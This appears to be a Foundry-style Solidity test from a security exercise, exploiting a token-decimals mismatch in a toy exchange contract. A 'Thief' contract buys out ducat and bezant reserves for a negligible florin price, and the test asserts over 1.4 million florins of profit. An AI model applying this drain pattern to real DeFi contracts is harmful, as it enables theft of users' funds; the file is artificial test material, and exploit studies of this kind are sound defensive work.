// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.27;

import {Coin} from "../decimals-mismatch/src/Coin.sol";
import {Dealer} from "../decimals-mismatch/src/Dealer.sol";
import {Feed, FlashLender} from "../decimals-mismatch/src/Imports.sol";

interface Vm {
    function prank(address sender) external;
    function roll(uint256 number) external;
    function warp(uint256 time) external;
}

contract Thief {
    function attack(Dealer dealer, Coin florin, Coin ducat, Coin bezant) external {
        florin.approve(address(dealer), type(uint256).max);
        dealer.buy(florin, ducat, ducat.balanceOf(address(dealer)), 1 ether);
        dealer.buy(florin, bezant, bezant.balanceOf(address(dealer)), 1 ether);
    }
}

contract DecimalsMismatchTest {
    event Profit(uint256 florins);

    Vm private constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));

    address private attacker = address(uint160(uint256(keccak256("heist actor attacker"))));
    address private admin = address(uint160(uint256(keccak256("heist actor admin"))));
    address private alice = address(uint160(uint256(keccak256("heist actor alice"))));
    address private bob = address(uint160(uint256(keccak256("heist actor bob"))));
    address private carol = address(uint160(uint256(keccak256("heist actor carol"))));
    Coin private florin;
    Coin private ducat;
    Coin private thaler;
    Coin private bezant;
    Feed private dollar_feed;
    Feed private thaler_feed;
    Feed private bezant_feed;
    FlashLender private lender;
    Dealer private dealer;

    function setUp() public {
        vm.roll(1);
        vm.warp(1_700_000_000);
        vm.prank(admin);
        florin = new Coin("Florin", 18);
        vm.prank(admin);
        ducat = new Coin("Ducat", 6);
        vm.prank(admin);
        thaler = new Coin("Thaler", 18);
        vm.prank(admin);
        bezant = new Coin("Bezant", 8);
        vm.prank(admin);
        dollar_feed = new Feed(8, 1e8, admin);
        vm.prank(admin);
        thaler_feed = new Feed(8, 3000e8, admin);
        vm.prank(admin);
        bezant_feed = new Feed(8, 60000e8, admin);
        vm.prank(admin);
        lender = new FlashLender(6);
        vm.prank(admin);
        dealer = new Dealer();
        vm.prank(admin);
        dealer.list(florin, dollar_feed);
        vm.prank(admin);
        dealer.list(ducat, dollar_feed);
        vm.prank(admin);
        dealer.list(thaler, thaler_feed);
        vm.prank(admin);
        dealer.list(bezant, bezant_feed);
        vm.prank(admin);
        florin.mint(alice, 900000 ether);
        vm.prank(admin);
        ducat.mint(alice, 700000e6);
        vm.prank(admin);
        thaler.mint(bob, 330 ether);
        vm.prank(admin);
        bezant.mint(bob, 18e8);
        vm.prank(admin);
        florin.mint(carol, 60000 ether);
        vm.prank(admin);
        ducat.mint(carol, 40000e6);
        vm.prank(admin);
        thaler.mint(carol, 10 ether);
        vm.prank(admin);
        bezant.mint(carol, 0.5e8);
        vm.prank(admin);
        florin.mint(attacker, 5000 ether);
        vm.prank(admin);
        ducat.mint(attacker, 5000e6);
        vm.prank(admin);
        florin.mint(address(lender), 2000000 ether);
        vm.prank(admin);
        thaler.mint(address(lender), 500 ether);
        vm.prank(alice);
        florin.approve(address(dealer), 1e60);
        vm.prank(bob);
        florin.approve(address(dealer), 1e60);
        vm.prank(carol);
        florin.approve(address(dealer), 1e60);
        vm.prank(attacker);
        florin.approve(address(dealer), 1e60);
        vm.prank(alice);
        ducat.approve(address(dealer), 1e60);
        vm.prank(bob);
        ducat.approve(address(dealer), 1e60);
        vm.prank(carol);
        ducat.approve(address(dealer), 1e60);
        vm.prank(attacker);
        ducat.approve(address(dealer), 1e60);
        vm.prank(alice);
        thaler.approve(address(dealer), 1e60);
        vm.prank(bob);
        thaler.approve(address(dealer), 1e60);
        vm.prank(carol);
        thaler.approve(address(dealer), 1e60);
        vm.prank(attacker);
        thaler.approve(address(dealer), 1e60);
        vm.prank(alice);
        bezant.approve(address(dealer), 1e60);
        vm.prank(bob);
        bezant.approve(address(dealer), 1e60);
        vm.prank(carol);
        bezant.approve(address(dealer), 1e60);
        vm.prank(attacker);
        bezant.approve(address(dealer), 1e60);
        vm.prank(alice);
        dealer.join(florin, 800000 ether);
        vm.prank(alice);
        dealer.join(ducat, 600000e6);
        vm.prank(bob);
        dealer.join(thaler, 300 ether);
        vm.prank(bob);
        dealer.join(bezant, 15e8);
        vm.prank(carol);
        dealer.buy(florin, thaler, 2 ether, 6100 ether);
        vm.prank(carol);
        dealer.sell(ducat, bezant, 6000e6, 0.099e8);
    }

    function test_attack_pays() public {
        vm.prank(attacker);
        Thief thief = new Thief();
        vm.prank(attacker);
        florin.transfer(address(thief), 2_500 ether);
        thief.attack(dealer, florin, ducat, bezant);
        uint256 worth = florin.balanceOf(address(thief)) + ducat.balanceOf(address(thief)) * 1e12
            + bezant.balanceOf(address(thief)) * 60_000 * 1e10;
        emit Profit(worth - 2_500 ether);
        require(worth > 1_400_000 ether, "no profit");
    }
}
